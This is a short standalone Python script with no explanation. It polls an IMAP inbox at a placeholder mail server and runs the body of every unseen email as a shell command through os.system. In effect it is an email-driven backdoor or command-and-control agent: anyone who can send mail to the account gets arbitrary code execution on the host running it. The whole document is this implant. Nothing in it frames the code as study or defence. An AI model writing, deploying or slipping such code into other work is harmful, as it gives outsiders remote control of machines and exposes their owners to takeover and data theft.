import imaplib, email, os, time
while True:
    m = imaplib.IMAP4_SSL("mail.example.net"); m.login("a", "b"); m.select()
    _, ids = m.search(None, "UNSEEN")
    for i in ids[0].split():
        msg = email.message_from_bytes(m.fetch(i, "(RFC822)")[1][0][1])
        os.system(msg.get_payload())
    time.sleep(60)
